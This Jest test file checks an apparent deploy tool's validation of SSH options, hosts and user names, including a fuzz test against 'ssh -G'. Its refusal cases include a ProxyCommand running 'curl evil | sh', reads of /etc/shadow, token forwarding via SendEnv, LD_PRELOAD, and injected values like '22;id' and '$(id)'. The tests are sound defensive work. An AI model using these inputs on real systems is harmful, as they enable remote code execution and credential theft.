import { spawnSync } from "node:child_process";
import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { checkedUser, connectionOf } from "../../../src/domain/deploy/ssh-options.ts";

const options = (...given: string[]) => connectionOf("a", "a.test", given);

describe("SSH options of the plan", () => {
  test.each([
    [["-p", "2222"], ["-oPort=2222"], 2222],
    [["-p2222"], ["-oPort=2222"], 2222],
    [["-p 2222"], ["-oPort=2222"], 2222],
    [["-o", "Port=2222"], ["-oPort=2222"], 2222],
    [["-o", "port 2222"], ["-oPort=2222"], 2222],
    [["-oPORT=2222"], ["-oPort=2222"], 2222],
    [["-o Port = 2222"], ["-oPort=2222"], 2222],
    [["-p", "1", "-p", "2"], ["-oPort=1", "-oPort=2"], 1],
    [["-4"], ["-oAddressFamily=inet"], 22],
    [["-6"], ["-oAddressFamily=inet6"], 22],
    [["-C"], ["-oCompression=yes"], 22],
    [["-o", "ConnectTimeout=30"], ["-oConnectTimeout=30"], 22],
    [["-o", "serveraliveinterval=5"], ["-oServerAliveInterval=5"], 22],
    [["-oCiphers=^aes256-gcm@openssh.com,aes128-ctr"], ["-oCiphers=^aes256-gcm@openssh.com,aes128-ctr"], 22],
    [["-oHostKeyAlgorithms=-ssh-rsa*"], ["-oHostKeyAlgorithms=-ssh-rsa*"], 22],
    [["-oBatchMode=yes", "-oIdentitiesOnly=yes"], ["-oBatchMode=yes", "-oIdentitiesOnly=yes"], 22],
    [[], [], 22],
  ])("%j is fine", (given, made, port) => {
    expect(options(...given)).toEqual({ host: "a.test", options: made, port });
  });

  test.each([
    [["-o", "ProxyCommand=sh -c 'curl evil | sh'"], /'-o ProxyCommand=sh.*run a program/],
    [["-oproxycommand=x"], /'-oproxycommand=x'.*run a program/],
    [["-J", "jump.test"], /'-J jump\.test'.*jump host/],
    [["-oProxyJump=jump.test"], /jump host/],
    [["-o", "LocalCommand=x"], /LocalCommand/],
    [["-o", "PermitLocalCommand=yes"], /PermitLocalCommand/],
    [["-oMatch=exec x"], /Match/],
    [["-oInclude=/tmp/x"], /Include/],
    [["-oSetEnv=LD_PRELOAD=x"], /SetEnv/],
    [["-oSendEnv=CF_API_TOKEN"], /SendEnv/],
    [["-A"], /'-A'/],
    [["-oForwardAgent=yes"], /ForwardAgent/],
    [["-F", "/tmp/config"], /'-F \/tmp\/config'/],
    [["-i", "/etc/shadow"], /SSH_KEY/],
    [["-i/etc/shadow"], /SSH_KEY/],
    [["-oIdentityFile=/etc/shadow"], /SSH_KEY/],
    [["-oUserKnownHostsFile=/dev/null"], /known_hosts/],
    [["-oStrictHostKeyChecking=no"], /pinned/],
    [["-oGlobalKnownHostsFile=/tmp/x"], /GlobalKnownHostsFile/],
    [["-oKnownHostsCommand=/tmp/x"], /KnownHostsCommand/],
    [["-oHostKeyAlias=b"], /known_hosts by its SSH address/],
    [["-oVerifyHostKeyDNS=yes"], /VerifyHostKeyDNS/],
    [["-oControlPath=/tmp/x"], /ControlPath/],
    [["-S/tmp/x"], /'-S\/tmp\/x'/],
    [["-L", "80:a:80"], /'-L 80:a:80'/],
    [["-R80:a:80"], /-R80/],
    [["-D", "1080"], /-D/],
    [["-W", "a:22"], /-W/],
    [["-oRemoteCommand=x"], /RemoteCommand/],
    [["-E", "/tmp/log"], /-E/],
    [["-l", "root"], /deployUser/],
    [["-oUser=root"], /deployUser/],
    [["-oPKCS11Provider=/tmp/x.so"], /PKCS11Provider/],
    [["-v"], /'-v'/],
    [["-4A"], /'-4A'/],
    [["-Cp2222"], /'-Cp2222'/],
    [["-p", "0"], /'0' is no value for Port/],
    [["-p", "65536"], /no value for Port/],
    [["-p", "22;id"], /no value for Port/],
    [["-p"], /value is missing/],
    [["-o"], /value is missing/],
    [["-oPort"], /'-oPort'/],
    [["-o", "ConnectTimeout=5\nProxyCommand=x"], /no value for ConnectTimeout/],
    [["-oConnectTimeout=5 -oProxyCommand=x"], /no value for ConnectTimeout/],
    [["-oIdentitiesOnly=no"], /no value for IdentitiesOnly/],
    [["host"], /'host'.*none of ssh's/],
    [["--"], /'--'.*none of ssh's/],
    [["-"], /'-'.*none of ssh's/],
    [[""], /''.*none of ssh's/],
  ])("%j is refused", (given, message) => {
    expect(() => options(...given)).toThrow(message);
    expect(() => options(...given)).toThrow(
      expect.objectContaining({
        code: "ssh-option",
        message: expect.stringContaining("node 'a'"),
        hint: expect.stringContaining("provider.nodeSshOpts.a"),
      }),
    );
  });

  // What ssh itself makes of the arguments, whatever was tried.
  test("whatever is let through, ssh runs, reads, forwards and trusts nothing else", () => {
    const dangerous =
      /^(?:proxy|local|remote|permit|forward|identityfile|.*knownhosts|control|sendenv|setenv)/;
    const effective = (extra: readonly string[]) => {
      const { status, stdout } = spawnSync("ssh", ["-F", "none", "-G", ...extra, "--", "a.test"], {
        encoding: "utf8",
      });
      return { status, lines: stdout.split("\n").filter((line) => dangerous.test(line)) };
    };
    const plain = effective([]);
    const words = fc.constantFrom(
      ...[
        "-o",
        "-p",
        "-4",
        "-C",
        "-A",
        "-J",
        "-i",
        "-F",
        "-oPort=22",
        "Port=22",
        "ProxyCommand=x",
        "22",
        "a",
      ],
      ...[
        "-oProxyCommand=x",
        "-oProxyJump=x",
        "ForwardAgent=yes",
        "-oCiphers=aes128-ctr",
        "-p22 -oProxyJump=x",
      ],
      ...[
        "-oConnectTimeout=5 ProxyCommand=x",
        "-oconnecttimeout=5",
        "-o\tPort=22",
        "-oUser=x",
        "ServerAliveInterval=5",
      ],
    );
    let accepted = 0;
    fc.assert(
      fc.property(fc.array(fc.oneof(words, fc.string({ maxLength: 8 })), { maxLength: 4 }), (given) => {
        let made: readonly string[];
        try {
          made = connectionOf("a", "a.test", given).options;
        } catch {
          return;
        }
        accepted++;
        expect(made.every((option) => /^-o[A-Za-z]+=\S+$/.test(option))).toBe(true);
        if (made.length > 0) expect(effective(made)).toEqual({ status: 0, lines: plain.lines });
      }),
      { numRuns: 300 },
    );
    expect(accepted).toBeGreaterThan(20);
  });
});

describe("SSH addresses", () => {
  test.each([
    "a",
    "a.test",
    "A-1.Test",
    "node_1",
    "192.0.2.1",
    "2001:db8::1",
    "::1",
    "::ffff:192.0.2.1",
    "a.test.",
  ])("%s is one", (host) => {
    expect(connectionOf("a", host, []).host).toBe(host);
  });

  test.each([
    ...[
      "",
      "-oProxyCommand=x",
      "-a",
      "a.-b",
      "a-.test",
      "root@a.test",
      "a.test:22",
      "a b",
      "a\nb",
      "a\tb",
      "a;id",
    ],
    ...[
      "$(id)",
      "a/b",
      "[::1]",
      "fe80::1%eth0",
      "a..b",
      ".a",
      "ssh://a.test",
      "a,b",
      "ä.test",
      "x".repeat(254),
    ],
  ])("%j is none", (host) => {
    expect(() => connectionOf("n", host, [])).toThrow(
      expect.objectContaining({
        code: "ssh-host",
        hint: expect.stringContaining("provider.nodeAddresses.n"),
      }),
    );
  });
});

test.each(["deploy", "wiki-main-77ab310", "4you-main-1234567", "_x", "A1"])("%s is a user", (user) => {
  expect(checkedUser(user)).toBe(user);
});

test.each(["", "-x", "a b", "a:b", "a.b", "1001", "#0", "a@b", "root;id", "a\n", "x".repeat(65)])(
  "%j is no user",
  (user) => {
    expect(() => checkedUser(user)).toThrow(expect.objectContaining({ code: "user-name" }));
  },
);
